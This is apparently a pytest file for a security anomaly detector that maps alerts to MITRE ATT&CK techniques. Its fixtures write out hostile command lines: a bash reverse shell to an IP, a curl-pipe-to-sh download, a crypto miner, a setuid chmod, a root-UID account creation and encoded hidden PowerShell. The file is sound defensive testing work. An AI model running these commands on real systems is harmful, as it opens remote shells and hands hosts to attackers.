"""ATT&CK-aware severity (mimizuku.engine.techniques): a technique raises a *new* situation's score
and severity and names itself in the record and the event; a routine situation is never touched,
so a signature alone never fires."""
from __future__ import annotations

import datetime as dt
import json

import alert_factory as F
import pytest

from mimizuku import Mimizuku
from mimizuku.delivery import events
from mimizuku.engine import techniques as T

REVERSE_SHELL = ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]


@pytest.mark.parametrize("alert, want", [
    (F.command(F.BASE, REVERSE_SHELL), "T1059.004"),
    (F.command(F.BASE, ["/usr/bin/curl", "-fsSL", "http://x/i.sh", "|", "sh"]), "T1105"),
    (F.command(F.BASE, ["./xmrig", "-o", "stratum+tcp://pool.example:3333"]), "T1496"),
    (F.command(F.BASE, ["/bin/chmod", "u+s", "/tmp/.x/sh"]), "T1548.001"),
    (F.command(F.BASE, ["/usr/sbin/useradd", "-o", "-u", "0", "toor"]), "T1136.001"),
    (F.fim(F.BASE, "/root/.ssh/authorized_keys", event="modified"), "T1098.004"),
    (F.fim(F.BASE, "/etc/cron.d/updater", event="added"), "T1053.003"),
    (F.fim(F.BASE, "/var/www/html/uploads/x.php", event="added", user="www-data", process="php-fpm"), "T1505.003"),
    (F.command(F.BASE, ["/bin/ls", "-la", "/var/log"]), None),
    (F.command(F.BASE, ["/bin/chmod", "644", "/etc/nginx/nginx.conf"]), None),
    (F.fim(F.BASE, "/etc/nginx/nginx.conf"), None),
])
def test_the_table_names_what_it_should_and_nothing_else(alert, want):
    got = T.match(alert)
    assert (got.id if got else None) == want


def test_windows_command_lines_are_read():
    a = F.event(F.BASE, "92057", groups=["windows", "sysmon"])
    a["data"] = {"win": {"system": {"eventID": "1", "providerName": "Microsoft-Windows-Sysmon"},
                         "eventdata": {"commandLine": "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA"}}}
    assert T.match(a).id == "T1059.001"


def test_matching_reads_a_bounded_prefix_of_plain_text():
    # no regular expression sees alert text: a long hostile argument costs one pass over MAX_TEXT
    long = F.command(F.BASE, ["/bin/sh", "-c", "a_a-" * 100_000 + " /dev/tcp/x/1"])
    assert T.match(long) is None                      # the indicator lies beyond MAX_TEXT
    near = F.command(F.BASE, ["/bin/sh", "-c", "a_a-" * 100 + " /dev/tcp/x/1"])
    assert T.match(near).id == "T1059.004"
    assert not any(hasattr(v, "pattern") for v in vars(T).values())   # no compiled pattern in the module


def test_every_row_is_documented():
    rows = T.table_rows()
    assert len({r["id"] for r in rows}) == len(rows) >= 20
    doc = open("docs/techniques.md", encoding="utf-8").read()
    assert T.TABLE_VERSION in doc
    for r in rows:
        assert r["id"] in doc, r["id"]


# -- in the model --------------------------------------------------------------------------------

def _training():
    alerts = F.normal_fleet(days=5)
    for d in range(5):
        t = F.BASE + dt.timedelta(days=d, hours=4)
        # web-01's backup job lists root's crontab every night: routine there, though it looks like T1053.003
        for i in range(3):
            alerts.append(F.command(t + dt.timedelta(minutes=i), ["/usr/bin/crontab", "-l"], user="root",
                                    agent="web-01", agent_id="001"))
    alerts.sort(key=lambda a: a["timestamp"])
    return alerts


@pytest.fixture(scope="module")
def model():
    return Mimizuku(contamination=1e-3).fit(_training())


def _record(model, alert):
    return model.score_records([alert])[0]


def test_a_routine_situation_is_never_annotated(model, monkeypatch):
    t = F.BASE + dt.timedelta(days=6, hours=4)
    routine = F.command(t, ["/usr/bin/crontab", "-l"], user="root", agent="web-01", agent_id="001")
    assert T.match(routine).id == "T1053.003"
    rec = _record(model, routine)
    assert "mitre" not in rec and not rec["anomaly"]
    monkeypatch.setattr(T, "match", lambda a, table=T.TECHNIQUES: None)
    assert _record(model, routine)["score"] == rec["score"]      # untouched


def test_a_new_situation_that_looks_like_a_technique_is_lifted_and_named(model, monkeypatch):
    import mimizuku.engine.estimator as E

    t = F.BASE + dt.timedelta(days=6, hours=4)
    shell = F.command(t, REVERSE_SHELL, user="www-data", agent="web-01", agent_id="001")
    rec = _record(model, shell)
    assert rec["mitre"] == {"id": "T1059.004", "technique": T.match(shell).technique,
                            "tactic": "execution", "table": T.TABLE_VERSION}
    assert rec["anomaly"] and rec["reasons"][0].startswith("looks like ATT&CK T1059.004")
    # switched off: the same alert, its score lower by the lift (unless both saturate) and one band lower
    monkeypatch.setattr(E, "match_technique", lambda a: None)
    plain = _record(model, shell)
    assert "mitre" not in plain
    assert plain["score"] == pytest.approx(max(rec["score"] - T.SCORE_LIFT, plain["score"]), abs=1e-6)
    bands = ["none", "low", "medium", "high", "critical"]
    assert bands.index(rec["severity"]) == min(4, bands.index(plain["severity"]) + 1)
    # the event carries it for Wazuh's MITRE views
    ev = json.loads(events.event_message(rec).split(b":", 2)[2])
    assert ev["mimizuku"]["mitre"] == {"id": "T1059.004", "technique": rec["mitre"]["technique"], "tactic": "execution"}


def test_a_signature_alone_never_fires(model):
    # the technique text on a routine situation: not lifted, not flagged, whatever it says
    t = F.BASE + dt.timedelta(days=6, hours=4)
    recs = model.score_records([F.command(t + dt.timedelta(minutes=i), ["/usr/bin/crontab", "-l"], user="root",
                                          agent="web-01", agent_id="001") for i in range(3)])
    assert not any(r["anomaly"] or "mitre" in r for r in recs)
